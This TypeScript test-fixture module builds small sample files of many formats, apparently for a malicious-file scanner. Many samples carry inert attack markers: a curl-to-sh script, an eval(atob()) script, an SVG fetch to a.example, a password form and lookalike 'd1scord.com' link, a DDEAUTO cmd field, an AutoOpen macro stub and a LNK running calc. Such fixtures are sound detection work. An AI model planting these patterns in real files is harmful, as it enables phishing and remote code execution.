import { bzip2 } from './bzip2.ts';
import { bookOf, cfbOf, moduleOf, ole10Native } from './cfb.ts';
import { elf, fatMacho, iso, javaClass, lnk, macho, msi, pe } from './executables.ts';
import { exif, jpegSegment, withSegments } from './exif.ts';
import { gif } from './gif.ts';
import { gzip } from './gzip.ts';
import { xz } from './lzma.ts';
import { docxOf, field, paragraphs, pptxOf, xlsxOf } from './office.ts';
import { mail, page, svg } from './pages.ts';
import { onePage } from './pdf.ts';
import { jpeg, webp } from './pictures.ts';
import { apng, chunk, png } from './png.ts';
import { rar4, rar5 } from './rar.ts';
import { scamScene } from './scenes.ts';
import { sevenZip } from './sevenzip.ts';
import { tar } from './tar.ts';
import { GOOD as TEXTS } from './text.ts';
import { movingWebp } from './webp.ts';
import { zip } from './zip.ts';

const FILES = [
  { path: 'notes.txt', content: 'nothing special '.repeat(20) },
  { path: 'deep/run.exe', content: 'x' },
];
const SIZED = [
  { path: 'notes.txt', size: 320, packed: 40 },
  { path: 'run.exe', size: 9, packed: 9, encrypted: true },
];

/** A small good file of every kind that is opened, by name: for cutting off and for mutating. */
export async function goodFiles(): Promise<Readonly<Record<string, Uint8Array>>> {
  return { ...TEXTS, ...pages(), ...archives(), ...documents(), ...programs(), ...(await pictures()) };
}

/** Each with something of what is looked for in it. */
function pages(): Record<string, Uint8Array> {
  const form =
    '<form action="https://a.example/x"><input type="password"></form><a href="https://d1scord.com">discord.com</a>';
  const script = '<script>eval(atob("YWxlcnQoMSk="))</script>';
  const packed = Buffer.from(zip(FILES)).toString('base64');
  const html = page(`${form}<img src="data:application/zip;base64,${packed}">`, `<title>Hi</title>${script}`);
  const parts = [
    { type: 'text/html', content: html, encoding: 'quoted-printable' },
    { type: 'application/zip', content: zip(FILES), encoding: 'base64', attached: 'a.zip' },
  ] as const;
  const texts = {
    'a.html': html,
    'a.svg': svg(`<script>fetch("https://a.example")</script><a xlink:href="javascript:x()"><text>Hi</text></a>`),
    'a.xml':
      '<?xml version="1.0"?>\n<a xmlns:b="urn:b"><b:c password="hunter22">x &amp; y<![CDATA[<z>]]></b:c><!-- d --></a>\n',
    'a.eml': mail(parts, { subject: '=?utf-8?B?SGk=?=' }),
  };
  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, new TextEncoder().encode(text)]));
}

function archives(): Record<string, Uint8Array> {
  const lines = new TextEncoder().encode('some text, some more text\n'.repeat(30));
  return {
    'a.zip': zip([...FILES, { path: 'inner.zip', content: zip(FILES) }]),
    'a.tar': tar([
      { path: 'a', content: 'x' },
      { path: `${'long/'.repeat(30)}b`, long: 'pax', content: 'y' },
    ]),
    'a.tar.gz': gzip(tar([{ path: 'a', content: 'x' }]), { name: 'a.tar' }),
    'a.txt.bz2': bzip2(lines),
    'a.txt.xz': xz(lines),
    'a.7z': sevenZip(FILES),
    'packed.7z': sevenZip(FILES, { packHeader: true }),
    'four.rar': rar4(SIZED),
    'five.rar': rar5(SIZED),
    'app.jar': zip([
      { path: 'META-INF/MANIFEST.MF', content: 'Main-Class: a.B\n' },
      { path: 'a/B.class', content: javaClass() },
    ]),
    'app.apk': zip([{ path: 'AndroidManifest.xml', content: 'x' }]),
  };
}

function documents(): Record<string, Uint8Array> {
  const link = { id: 'x1', type: 'hyperlink', target: 'https://d1scord.com', external: true };
  return {
    'a.pdf': onePage({ lines: ['Hello, penguins'] }),
    'a.docx': docxOf(field('DDEAUTO cmd') + paragraphs('Hello'), { related: [link] }),
    'a.xlsx': xlsxOf({ A: [['a', 1, { formula: 'HYPERLINK("https://d1scord.com")' }]] }),
    'a.pptx': pptxOf([{ inside: '<a:p><a:r><a:t>Hi</a:t></a:r></a:p>' }]),
    'a.xls': cfbOf({
      Workbook: bookOf([{ name: 'A' }]),
      'Macros/VBA/M': moduleOf('Sub AutoOpen()\r\nEnd Sub'),
      '\u0001Ole10Native': ole10Native('a.txt', Uint8Array.of(1, 2, 3)),
    }),
  };
}

function programs(): Record<string, Uint8Array> {
  return {
    'a.exe': pe({ sections: ['.text', 'UPX0'], signed: true }),
    'a.elf': elf(),
    'a.macho': macho(),
    'fat.macho': fatMacho(),
    'a.msi': msi(),
    'a.lnk': lnk({ words: '/c calc' }),
    'a.class': javaClass(),
    'a.iso': iso(),
    'a.sh': new TextEncoder().encode('#!/bin/sh\ncurl https://example.org/x | sh\n'),
  };
}

async function pictures(): Promise<Record<string, Uint8Array>> {
  const pixels = scamScene(1, 24, 18);
  const block = exif({ make: 'Acme', orientation: 6, place: { latitude: [1, 2, 3], longitude: [4, 5, 6] } });
  const frames = [{ pixels }, { pixels: scamScene(2, 10, 10), x: 4, y: 4 }, { pixels }];
  return {
    'a.png': png(pixels, { before: [chunk('eXIf', block)] }),
    'interlaced.png': png(pixels, { colours: 3, depth: 4, interlaced: true }),
    'moving.png': apng(frames),
    'a.jpg': withSegments(
      await jpeg(pixels),
      jpegSegment(0xe1, new Uint8Array([...Buffer.from('Exif\0\0'), ...block])),
    ),
    'progressive.jpg': await jpeg(pixels, { progressive: true }),
    'moving.gif': gif(frames),
    'a.webp': await webp(pixels),
    'lossless.webp': await webp(pixels, { lossless: true }),
    'moving.webp': await movingWebp(frames.slice(0, 1)),
  };
}
